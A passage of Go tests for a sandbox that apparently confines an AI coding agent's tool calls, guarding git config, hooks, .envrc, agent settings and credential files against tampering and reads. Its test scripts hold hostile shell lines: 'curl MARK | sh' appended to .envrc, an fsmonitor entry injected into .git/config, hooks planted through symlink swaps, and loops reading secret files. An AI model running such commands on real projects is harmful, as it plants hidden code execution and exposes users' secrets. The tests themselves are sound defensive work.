	if want := []string{filepath.Join(f.repo, ".mcp.json")}; !slices.Equal(res.MovedAside, want) {
		t.Errorf("MovedAside %v, want %v", res.MovedAside, want)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, ".mcp.json")); err == nil {
		t.Error(".mcp.json made again is still there")
	}
	var contents []string
	moved, _ := filepath.Glob(filepath.Join(f.repo, ".mcp.json"+BlockedSuffix+"c1*"))
	for _, m := range moved {
		b, _ := os.ReadFile(m)
		contents = append(contents, string(b))
	}
	if slices.Sort(contents); !slices.Equal(contents, []string{"a\n", "b\n"}) {
		t.Errorf("moved aside %v holding %q, want both versions kept", moved, contents)
	}
}

// TestRemadeProtectedPathKillsCall: a call that makes a protected path again after a sweep
// moved it aside while it ran is killed, so a loop that remakes it cannot keep it in place.
func TestRemadeProtectedPathKillsCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	const script = `while :; do [ -e .git/commondir ] || echo ../evil > .git/commondir; sleep 0.05; done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	start := time.Now()
	res, _, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if res.KilledBy != KilledRemade || time.Since(start) > 10*time.Second {
		t.Errorf("killed by %q after %v, want %q within a few sweeps", res.KilledBy, time.Since(start), KilledRemade)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, ".git", "commondir")); err == nil {
		t.Error(".git/commondir is still there")
	}
}

// TestReplacedCoverKillsCall: a protected file that existed is covered by a read-only mount on
// its dentry, which a rename over it on the host (git config, an editor's save, a checkout)
// drops in the call's namespace. The call is then killed, and the file moved aside unless it
// is a git config that holds nothing that runs code.
func TestReplacedCoverKillsCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, tc := range []struct {
		name, rel, replacement, appended string
		twice                            bool
	}{
		// The call writes an fsmonitor into the config the host put there: moved aside.
		{"git config written", ".git/config", "[user]\n\tname = victim\n", "[core]\n\tfsmonitor = touch /tmp/MARK\n", false},
		// A protected file other than a git config: moved aside whatever it holds.
		{"envrc", ".envrc", "export A=2\n", "curl MARK | sh\n", false},
		// Saved twice in a row: on ext4 the second save's file gets the first one's freed inode
		// number, which is the covered file's unless the sweep holds that one.
		{"envrc saved twice", ".envrc", "export A=2\n", "curl MARK | sh\n", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newProtectFixture(t)
			target := filepath.Join(f.repo, tc.rel)
			script := fmt.Sprintf(`for i in $(seq 300); do printf %q >> %s 2>/dev/null && { echo wrote; break; }; sleep 0.02; done; sleep 5; echo done`,
				tc.appended, tc.rel)
			sp := f.spec(script, f.repo, f.repo)
			sp.MoveAsideCreated = true
			sp.Call = "c1"
			go func() {
				time.Sleep(1500 * time.Millisecond)
				saves := 1
				if tc.twice {
					saves = 2
				}
				for range saves {
					tmp := target + ".tmp"
					if err := os.WriteFile(tmp, []byte(tc.replacement), 0o644); err != nil {
						t.Error(err)
						return
					}
					chownR(t, tmp)
					if err := os.Rename(tmp, target); err != nil {
						t.Error(err)
					}
				}
			}()
			res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
			if err != nil {
				t.Fatal(err)
			}
			if res.KilledBy != KilledCoverLost || strings.Contains(out, "done") {
				t.Errorf("killed by %q, output %q; want the call killed as %q once the cover was lost", res.KilledBy, out, KilledCoverLost)
			}
			b, err := os.ReadFile(target)
			switch {
			case err == nil && strings.Contains(string(b), "MARK"):
				t.Errorf("%s holds what the call wrote after the host replaced it: %q", tc.rel, b)
			case err == nil && tc.rel != ".git/config":
				t.Errorf("%s, replaced while the call ran, was left in place: %q", tc.rel, b)
			case err != nil && !slices.Contains(res.MovedAside, target):
				t.Errorf("%s is gone but not reported moved aside: %v", tc.rel, res.MovedAside)
			}
		})
	}
}

// TestLinkInProtectedDir: a hook or agent settings file kept as a link into the repository
// (.git/hooks/pre-push -> ../../scripts/pre-push) runs what its target holds, so the target
// is read-only in a call, and a missing one the call makes is moved aside.
func TestLinkInProtectedDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	for _, d := range []string{"scripts", "agentcfg", ".claude"} {
		if err := os.MkdirAll(filepath.Join(f.repo, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for file, content := range map[string]string{"scripts/pre-push": "#!/bin/sh\n", "agentcfg/settings.json": "{}\n"} {
		if err := os.WriteFile(filepath.Join(f.repo, file), []byte(content), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		".git/hooks/pre-push":         "../../scripts/pre-push",
		".git/hooks/pre-merge-commit": "../../scripts/pre-commit", // dangling: the call could make it
		".claude/settings.json":       "../agentcfg/settings.json",
	} {
		if err := os.Symlink(target, filepath.Join(f.repo, link)); err != nil {
			t.Fatal(err)
		}
	}
	chownR(t, f.repo)
	time.Sleep(50 * time.Millisecond) // the user's links are older than the call
	const script = `s=scri; echo 'touch /tmp/MARK' >> ${s}pts/pre-push; a=agent; echo '{"hooks":"MARK"}' > ${a}cfg/settings.json; ` +
		`echo 'touch /tmp/MARK' > ${s}pts/pre-commit; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, p := range []string{"scripts/pre-push", "agentcfg/settings.json", "scripts/pre-commit"} {
		if b, _ := os.ReadFile(filepath.Join(f.repo, p)); strings.Contains(string(b), "MARK") {
			t.Errorf("%s, where a link in a protected dir leads, holds what the call wrote; MovedAside %v, output %q", p, res.MovedAside, out)
		}
	}
}

// TestLinkChainInProtectedDir: a link in a protected dir whose way holds another link of the
// user's (.git/hooks/pre-push -> ../../scripts/pre-push with scripts -> tools/real), or a
// protected link leading to another (.envrc -> e1 -> real/envrc): a call that swaps the link
// in the middle for a dir or file of its own does not get its content run.
func TestLinkChainInProtectedDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	for _, d := range []string{"tools/real", "real"} {
		if err := os.MkdirAll(filepath.Join(f.repo, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(f.repo, "tools/real/pre-push"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(filepath.Join(f.repo, "real/envrc"), []byte("export A=1\n"), 0o644)
	os.Remove(filepath.Join(f.repo, ".envrc"))
	for link, target := range map[string]string{
		"scripts":             "tools/real",
		".git/hooks/pre-push": "../../scripts/pre-push",
		"e1":                  "real/envrc",
		".envrc":              "e1",
	} {
		if err := os.Symlink(target, filepath.Join(f.repo, link)); err != nil {
			t.Fatal(err)
		}
	}
	chownR(t, f.repo)
	time.Sleep(50 * time.Millisecond) // the user's links are older than the call
	const script = `s=scri; rm ${s}pts && mkdir ${s}pts && echo 'touch /tmp/MARK' > ${s}pts/pre-push; ` +
		`e=e; rm ${e}1 && echo 'curl MARK | sh' > ${e}1; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, p := range []string{".git/hooks/pre-push", ".envrc"} {
		if b, _ := os.ReadFile(filepath.Join(f.repo, p)); strings.Contains(string(b), "MARK") {
			t.Errorf("%s leads to what the call wrote; MovedAside %v, output %q", p, res.MovedAside, out)
		}
	}
}

// TestLinkChainSpellings: the chain is followed as the kernel follows it. A `..` after a link
// leaves where the link led (hooks/pre-push -> ../../x/../hook with x -> sub/dir runs
// sub/hook); a middle link is the user's only where it lies, reached without a link (a call
// that swaps the dir holding it for a link to a dir with a copy of it does not keep that).
func TestLinkChainSpellings(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, tc := range []struct {
		name    string
		dirs    []string
		files   map[string]string
		links   [][2]string // link, target, made in order
		script  string
		checked string
	}{
		{"dot-dot after a link", []string{"sub/dir"}, map[string]string{"sub/hook": "#!/bin/sh\n"},
			[][2]string{{"x", "sub/dir"}, {".git/hooks/pre-push", "../../x/../hook"}},
			`h=sub/ho; echo 'touch /tmp/MARK' >> ${h}ok; echo done`, ".git/hooks/pre-push"},
		{"dot-dot after a middle link", []string{"d1/d2", "d1/real"}, map[string]string{"d1/real/envrc": "export A=1\n"},
			[][2]string{{"y", "d1/d2"}, {".envrc", "y/../real/envrc"}},
			`python3 -c 'import os; y="y"; os.unlink(y); os.makedirs("q/r"); os.makedirs("q/real"); os.symlink("q/r", y); open("q/real/envrc","w").write("curl MARK | sh\n")'; echo done`, ".envrc"},
		{"the middle link's dir swapped for a link", []string{"cfg", "real"}, map[string]string{"real/pre-push": "#!/bin/sh\n"},
			[][2]string{{"cfg/h1", "../real/pre-push"}, {".git/hooks/pre-push", "../../cfg/h1"}},
			`python3 -c 'import os; c="cfg"; os.makedirs("deep/x"); os.makedirs("deep/real"); os.symlink("../real/pre-push","deep/x/h1"); open("deep/real/pre-push","w").write("touch /tmp/MARK\n"); os.rename(c,"cfgold"); os.symlink("deep/x",c)'; echo done`, ".git/hooks/pre-push"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newProtectFixture(t)
			os.Remove(filepath.Join(f.repo, ".envrc"))
			for _, d := range tc.dirs {
				if err := os.MkdirAll(filepath.Join(f.repo, d), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			for p, c := range tc.files {
				if err := os.WriteFile(filepath.Join(f.repo, p), []byte(c), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			for _, l := range tc.links {
				if err := os.Symlink(l[1], filepath.Join(f.repo, l[0])); err != nil {
					t.Fatal(err)
				}
			}
			chownR(t, f.repo)
			time.Sleep(50 * time.Millisecond) // the user's links are older than the call
			sp := f.spec(tc.script, f.repo, f.repo)
			sp.MoveAsideCreated, sp.Call = true, "c1"
			res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
			if err != nil || !strings.Contains(out, "done") {
				t.Fatalf("%v %q", err, out)
			}
			if b, _ := os.ReadFile(filepath.Join(f.repo, tc.checked)); strings.Contains(string(b), "MARK") {
				t.Errorf("%s leads to what the call wrote; MovedAside %v, output %q", tc.checked, res.MovedAside, out)
			}
		})
	}
}

// TestReplacedCoverBehindLockedDir: a call that makes the dir holding a covered file
// unsearchable (chmod 000) does not blind the sweep to the file's replacement: a covered path
// it cannot look at counts as replaced.
func TestReplacedCoverBehindLockedDir(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	scripts := filepath.Join(f.repo, "scripts")
	if err := os.Mkdir(scripts, 0o755); err != nil {
		t.Fatal(err)
	}
	env := filepath.Join(scripts, "env.sh")
	if err := os.WriteFile(env, []byte("export A=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The user's shell sources it: a protected path, covered read-only.
	if err := os.WriteFile(filepath.Join(f.home, ".bashrc"), []byte(". "+env+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.home)
	const script = `d=scri; chmod 000 ${d}pts; sleep 3; chmod 755 ${d}pts; echo 'curl MARK | sh' >> ${d}pts/env.sh && echo wrote; sleep 2; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	go func() {
		time.Sleep(1500 * time.Millisecond)
		tmp := filepath.Join(f.repo, "env.tmp")
		if err := os.WriteFile(tmp, []byte("export A=2\n"), 0o644); err != nil {
			t.Error(err)
			return
		}
		chownR(t, tmp)
		if err := os.Rename(tmp, env); err != nil { // as root: the 000 dir does not stop it
			t.Error(err)
		}
	}()
	res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if res.KilledBy != KilledCoverLost || strings.Contains(out, "done") {
		t.Errorf("killed by %q, exit %d, output %q; want the call killed as %q", res.KilledBy, res.ExitCode, out, KilledCoverLost)
	}
	os.Chmod(scripts, 0o755)
	if b, err := os.ReadFile(env); err == nil && strings.Contains(string(b), "MARK") {
		t.Errorf("env.sh holds what the call wrote: %q; MovedAside %v", b, res.MovedAside)
	}
}

// TestReplacedHiddenKillsCall: a deny path is hidden by a mount on the file it was made on; a
// rename over it on the host (a tool saving a credentials file again) shows the new file in the
// call's namespace, which landlock does not hold inside a writable dir nor where the path
// existed at the start. The call is killed, and the user's file left where it is.
func TestReplacedHiddenKillsCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, tc := range []struct {
		name, rel string
		landlock  bool // outside the writable dirs landlock holds the new file from the first read
	}{
		{"in the writable dir", "repo/secret.key", false},
		{"outside it", ".netrc", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newProtectFixture(t)
			target := filepath.Join(f.home, tc.rel)
			if err := os.WriteFile(target, []byte("OLD-SECRET\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			chownR(t, target)
			script := fmt.Sprintf(`date +%%T.%%N; for i in $(seq 300); do cat %s 2>/dev/null && date +%%T.%%N; sleep 0.02; done; echo done`, target)
			sp := f.spec(script, f.repo, f.repo)
			sp.DenyPaths, sp.Call = []string{target}, "c1"
			saved := make(chan struct{})
			var repl time.Time
			go func() {
				defer close(saved)
				time.Sleep(1500 * time.Millisecond)
				tmp := target + ".tmp"
				if err := os.WriteFile(tmp, []byte("NEW-SECRET\n"), 0o600); err != nil {
					t.Error(err)
					return
				}
				chownR(t, tmp)
				if err := os.Rename(tmp, target); err != nil {
					t.Error(err)
				}
				repl = time.Now()
			}()
			res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
			<-saved
			if err != nil {
				t.Fatal(err)
			}
			// Inside a writable dir both may be read until the sweep looks: the new file, and in
			// the instant of the rename the old one (the kernel detaches the mounts on the old
			// dentry before it moves the new one in). Outside, landlock holds both.
			if tc.landlock && s.landlockABI > 0 && strings.Contains(out, "SECRET") {
				t.Errorf("the hidden file was read: %q (replaced at %s)", out, repl.Format("15:04:05.000000"))
			}
			if res.KilledBy != KilledHiddenLost || strings.Contains(out, "done") {
				t.Errorf("killed by %q, output %q; want the call killed as %q once the hidden file was replaced", res.KilledBy, out, KilledHiddenLost)
			}
			if b, err := os.ReadFile(target); err != nil || string(b) != "NEW-SECRET\n" {
				t.Errorf("the user's saved file: %q, %v; want it left in place", b, err)
			}
		})
	}
}

// TestHiddenMovedInKillsCall: a deny path outside the session, missing when a call starts, that
// the host fills by moving an older dir there (mv ~/ssh-old ~/.ssh: the dir keeps the landlock
// rule it had as an entry of the home) kills the call.
func TestHiddenMovedInKillsCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	old := filepath.Join(f.home, "ssh-old")
	if err := os.Mkdir(old, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(old, "id"), []byte("PRIVATE\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.home)
	target := filepath.Join(f.home, ".ssh-test")
	script := fmt.Sprintf(`for i in $(seq 300); do cat %s/id 2>/dev/null; sleep 0.02; done; echo done`, target)
	sp := f.spec(script, f.repo, f.repo)
	sp.DenyPaths, sp.Call = []string{target}, "c1"
	go func() {
		time.Sleep(1500 * time.Millisecond)
		if err := os.Rename(old, target); err != nil {
			t.Error(err)
		}
	}()
	res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if res.KilledBy != KilledHiddenLost || strings.Contains(out, "done") {
		t.Errorf("killed by %q, output %q; want the call killed as %q once the deny path appeared", res.KilledBy, out, KilledHiddenLost)
	}
	// One made afresh in a dir of the caller's matches no landlock rule: unreadable, and the call
	// goes on.
	fresh := filepath.Join(f.home, ".fresh-test")
	sp = f.spec(fmt.Sprintf(`for i in $(seq 100); do cat %s/id 2>/dev/null; sleep 0.02; done; echo done`, fresh), f.repo, f.repo)
	sp.DenyPaths, sp.Call = []string{fresh}, "c1b"
	go func() {
		time.Sleep(700 * time.Millisecond)
		if err := os.Mkdir(fresh, 0o700); err != nil {
			t.Error(err)
			return
		}
		if err := os.WriteFile(filepath.Join(fresh, "id"), []byte("FRESHSECRET\n"), 0o600); err != nil {
			t.Error(err)
		}
		chownR(t, fresh)
	}()
	res, out, err = run(t, s, ctxTimeout(t, 30*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if s.landlockABI > 0 && (res.KilledBy != "" || !strings.Contains(out, "done") || strings.Contains(out, "FRESHSECRET")) {
		t.Errorf("made afresh: killed by %q, output %q; want it unreadable and the call to go on", res.KilledBy, out)
	}
	// In a dir shared with others (sticky, root's), where landlock does not expand around it,
	// one the user's own process makes there kills the call too.
	shared := hostTempDir(t, "/var/tmp", "sbx-shared-")
	if err := os.Chmod(shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	creds := filepath.Join(shared, "creds.json")
	sp = f.spec(fmt.Sprintf(`for i in $(seq 300); do cat %s 2>/dev/null; sleep 0.02; done; echo done`, creds), f.repo, f.repo)
	sp.DenyPaths, sp.Call = []string{creds}, "c2"
	go func() {
		time.Sleep(1500 * time.Millisecond)
		if err := os.WriteFile(creds, []byte("HOSTSECRET\n"), 0o644); err != nil {
			t.Error(err)
		}
	}()
	res, out, err = run(t, s, ctxTimeout(t, 30*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if res.KilledBy != KilledHiddenLost || strings.Contains(out, "done") {
		t.Errorf("in a shared dir: killed by %q, output %q; want %q", res.KilledBy, out, KilledHiddenLost)
	}
}

// TestReplacedCoverKillsEveryCall: two calls cover the same path; one's sweep moves the
// replaced file aside, and the other, whose cover is gone too and which does not guard the
// path, is killed all the same rather than left to make it again.
func TestReplacedCoverKillsEveryCall(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	target := filepath.Join(f.repo, ".git", "config")
	const script = `for i in $(seq 300); do printf '[core]\n\tfsmonitor = MARK\n' >> .git/config 2>/dev/null; sleep 0.02; done; echo done`
	type result struct {
		res *Result
		out string
		err error
	}
	results := make(chan result, 2)
	for _, call := range []string{"a", "b"} {
		sp := f.spec(script, f.repo, f.repo)
		sp.MoveAsideCreated, sp.Call = true, call
		go func() {
			res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
			results <- result{res, out, err}
		}()
	}
	time.Sleep(1500 * time.Millisecond)
	tmp := target + ".tmp"
	if err := os.WriteFile(tmp, []byte("[user]\n\tname = victim\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	chownR(t, tmp)
	if err := os.Rename(tmp, target); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		r := <-results
		if r.err != nil {
			t.Fatal(r.err)
		}
		if r.res.KilledBy != KilledCoverLost || strings.Contains(r.out, "done") {
			t.Errorf("a call ran on after the path it covered was replaced: killed by %q, output %q", r.res.KilledBy, r.out)
		}
	}
	if b, err := os.ReadFile(target); err == nil && strings.Contains(string(b), "MARK") {
		t.Errorf(".git/config holds what a call wrote after the host replaced it: %q", b)
	}
}

// TestMoveAsideThroughModes: a call that takes the search or write bit from its own dirs after
// making a protected path inside (chmod 500 .) does not keep it in place.
func TestMoveAsideThroughModes(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	const script = `echo '{}' > .mcp.json; echo '* diff=x' > .git/info/attributes; ` +
		`chmod 000 .git/info; chmod 600 .git; chmod 500 .; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	want := []string{filepath.Join(f.repo, ".git/info/attributes"), filepath.Join(f.repo, ".mcp.json")}
	if got := slices.Sorted(slices.Values(res.MovedAside)); !slices.Equal(got, want) {
		t.Errorf("MovedAside %v, want %v", got, want)
	}
	for _, p := range want {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s is still there", p)
		}
		if _, err := os.Lstat(p + BlockedSuffix + "c1"); err != nil {
			t.Errorf("%s was not moved aside: %v", p, err)
		}
	}
}

// TestSubmoduleConfigProtected: a submodule's config and hooks in the superproject's
// .git/modules are read-only, and its objects stay writable (git in the submodule works).
func TestSubmoduleConfigProtected(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	mod := filepath.Join(f.repo, ".git", "modules", "sub")
	deep := filepath.Join(mod, "modules", "b", "modules", "c")
	// A submodule named vendor/foo keeps its git dir at modules/vendor/foo.
	named := filepath.Join(f.repo, ".git", "modules", "vendor", "foo")
	for _, m := range []string{mod, deep, named} {
		for _, d := range []string{filepath.Join(m, "hooks"), filepath.Join(m, "objects", "ab")} {
			os.MkdirAll(d, 0o755)
		}
		os.WriteFile(filepath.Join(m, "config"), []byte("[core]\n"), 0o644)
		os.WriteFile(filepath.Join(m, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
		// Named like what is protected, deep in what the walk does not enter.
		os.MkdirAll(filepath.Join(m, "objects", "ab", "hooks"), 0o755)
	}
	chownR(t, f.repo)
	sp := f.spec("echo x >> .git/modules/sub/config || echo config-refused; echo x > .git/modules/sub/hooks/post-checkout || echo hooks-refused; echo o > .git/modules/sub/objects/o && echo objects-ok; "+
		"d=.git/modules/sub/modules/b/modules/c; echo x >> $d/config || echo deep-config-refused; echo x > $d/hooks/post-checkout || echo deep-hooks-refused; "+
		"v=.git/modules/vendor/foo; echo x >> $v/config || echo named-config-refused; echo x > $v/hooks/post-checkout || echo named-hooks-refused; "+
		"echo o > $v/objects/ab/hooks/o && echo named-objects-ok", f.repo, f.repo)
	sp.ProtectedPatterns = ProtectedPatterns(sp.WritableDirs, sp.Dir)
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{"config-refused", "hooks-refused", "objects-ok", "deep-config-refused", "deep-hooks-refused",
		"named-config-refused", "named-hooks-refused", "named-objects-ok"} {
		if !strings.Contains(out, w) {
			t.Errorf("no %q in:\n%s", w, out)
		}
	}
}

// TestWholePaths: a <path>/** pattern hides path whole where path is outside every root and
// holds none, a dir or a file (which the decision denies too: ** matches nothing); a path
// around or inside a root is left to the walk, and wildcards, missing paths, dangling links
// and / are not hidden this way. A symlinked dir or file is hidden where it points.
func TestWholePaths(t *testing.T) {
	t.Parallel()
	base := t.TempDir()
	for _, d := range []string{"root/in", "other/sub", "around/root2"} {
		os.MkdirAll(filepath.Join(base, d), 0o755)
	}
	os.WriteFile(filepath.Join(base, "file"), nil, 0o644)
	os.WriteFile(filepath.Join(base, "root", "inner"), nil, 0o644)
	os.Symlink(filepath.Join(base, "other"), filepath.Join(base, "link"))
	os.Symlink(filepath.Join(base, "file"), filepath.Join(base, "filelink"))
	os.Symlink(filepath.Join(base, "root", "inner"), filepath.Join(base, "innerlink"))
	os.Symlink(filepath.Join(base, "missing"), filepath.Join(base, "dangling"))
	roots := []string{filepath.Join(base, "root"), filepath.Join(base, "around", "root2")}
	pat := func(rel string) string { return filepath.Join(base, rel) + "/**" }
	got := wholePaths(newFSView(), []string{
		pat("other"), pat("other"), pat("link"), pat("root"), pat("root/in"), pat("around"),
		filepath.Join(base, "o*") + "/**", pat("file"), pat("filelink"), pat("root/inner"), pat("innerlink"),
		pat("missing"), pat("dangling"), "/**", filepath.Join(base, "other") + "/*",
	}, roots)
	want := []string{filepath.Join(base, "other"), filepath.Join(base, "file")}
	if !slices.Equal(got, want) {
		t.Errorf("wholePaths = %v, want %v", got, want)
	}
}

// TestHideWholeDirOutside: Read(<dir>/**) for a dir outside the session's dirs hides the dir
// from every program, however the path is spelled; the session's own files stay readable.
func TestHideWholeDirOutside(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	secret, err := os.MkdirTemp("/var/tmp", "sandbox-test-secret-") // the child's /tmp is its own
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(secret) })
	os.Chmod(secret, 0o755)
	os.WriteFile(filepath.Join(secret, "key"), []byte("SECRET=1\n"), 0o644)
	cmd := fmt.Sprintf("cat README; cat %[1]s/$(echo key) 2>/dev/null || echo read-refused; "+
		"cat %[1]s/../%[2]s/key 2>/dev/null || echo dotdot-refused; ls %[1]s 2>/dev/null | grep -q key && echo listed || echo list-refused",
		secret, filepath.Base(secret))
	sp := f.spec(cmd, f.repo, f.repo)
	sp.HidePatterns = []string{secret + "/**"}
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{"hello", "read-refused", "dotdot-refused", "list-refused"} {
		if !strings.Contains(out, w) || strings.Contains(out, "SECRET") {
			t.Fatalf("no %q, or the secret shows, in:\n%s", w, out)
		}
	}
}

// TestHideOutside: a Read rule naming a place apart from the session's dirs hides what it names
// there from every program, however it names the file (a path built at run time, a `..`, a
// program's own read), as it does inside them; siblings and the session's own files stay
// readable. Read(<file>/**) hides the file itself (** matches nothing too, as the decision
// reads it); a wildcard pattern (Read(~/other/*.key)) is walked where it points.
func TestHideOutside(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, secret string
		pattern      func(dir string) string
		mounts       bool // one mount over the file shows in mountinfo
	}{
		{"a file by <file>/**", "out.txt", func(d string) string { return filepath.Join(d, "out.txt") + "/**" }, true},
		{"a wildcard pattern", "id.key", func(d string) string { return d + "/*.key" }, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := newTestSandbox(t, Config{})
			f := newProtectFixture(t)
			dir := filepath.Join(f.home, "other") // outside the session's dir, f.repo
			os.MkdirAll(dir, 0o755)
			os.WriteFile(filepath.Join(dir, tc.secret), []byte("SECRET=1\n"), 0o644)
			os.WriteFile(filepath.Join(dir, "plain"), []byte("plain-ok\n"), 0o644)
			chownR(t, dir)
			cmd := fmt.Sprintf("cat README; o=%[1]s; cat $o/$(echo %[2]s); cat $o/../other/%[2]s; awk 1 $o/%[2]s; "+
				"tar cf - -C $o %[2]s 2>/dev/null | tar xOf - 2>/dev/null; cat $o/plain; grep -c -F $o/%[2]s /proc/self/mountinfo; echo done", dir, tc.secret)
			sp := f.spec(cmd, f.repo, f.repo)
			sp.HidePatterns = []string{tc.pattern(dir)}
			sp.Call = "c"
			_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(out, "SECRET") {
				t.Fatalf("the file the rule denies was read:\n%s", out)
			}
			want := []string{"hello", "plain-ok", "done"}
			if tc.mounts {
				want = append(want, "\n1\n")
			}
			for _, w := range want {
				if !strings.Contains(out, w) {
					t.Errorf("no %q (the session's file, a sibling, the mount over the file) in:\n%s", w, out)
				}
			}
		})
	}
}

func TestAsideNameFits(t *testing.T) {
	for _, n := range []int{1, 10, 200, 255} {
		name := strings.Repeat("n", n)
		got := asideName(name, "call_0123456789abcdef")
		if len(got)+11 > 255 || !strings.HasPrefix(got, "n") || !strings.HasSuffix(got, BlockedSuffix+"call_0123456789abcdef") {
			t.Errorf("asideName(%d bytes) = %q (%d bytes)", n, got, len(got))
		}
		if n <= 200 && got != name+BlockedSuffix+"call_0123456789abcdef" {
			t.Errorf("a short name was cut: %q", got)
		}
	}
}

// TestToolSettingsProtectedWorkFilesNot: a package manager's settings and the code it loads
// are read-only, and what it writes as it works (yarn's cache and PnP loader) is not, nor is
// a new git commondir left in place.
func TestToolSettingsProtectedWorkFilesNot(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	for p, c := range map[string]string{".yarn/releases/yarn.cjs": "// yarn\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn.cjs\n",
		".npmrc": "fund=false\n", ".pre-commit-config.yaml": "repos: []\n", ".yarn/cache/a.zip": "zip\n",
		"mise.toml": "[hooks]\n", ".config/mise/config.toml": "[env]\n"} {
		os.MkdirAll(filepath.Dir(filepath.Join(f.repo, p)), 0o755)
		os.WriteFile(filepath.Join(f.repo, p), []byte(c), 0o644)
	}
	chownR(t, f.repo)
	const script = `for p in .yarn/releases/yarn.cjs .yarnrc.yml .npmrc .pre-commit-config.yaml mise.toml .config/mise/config.toml; do echo x >> $p 2>/dev/null && echo "WROTE $p"; done; ` +
		`echo z > .yarn/cache/b.zip && echo '//' > .pnp.cjs && echo x > .yarn/install-state.gz && echo work-ok; ` +
		`echo ../elsewhere > .git/commondir; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "work-ok") || !strings.Contains(out, "done") || strings.Contains(out, "WROTE") {
		t.Fatalf("%v %q: want the settings unwritable and the work files written", err, out)
	}
	if _, err := os.Lstat(filepath.Join(f.repo, ".git", "commondir")); err == nil || !slices.Contains(res.MovedAside, filepath.Join(f.repo, ".git", "commondir")) {
		t.Errorf("a new .git/commondir was left in place (moved aside: %v)", res.MovedAside)
	}
}

// TestStartupFilesProtected: systemd's user units and settings outside ~/.config/systemd/user,
// and other programs' start-up files in the home and the project (a project's rust-toolchain
// and .Rprofile, gdb's and psql's in the home), are read-only, and one missing is moved aside
// once made.
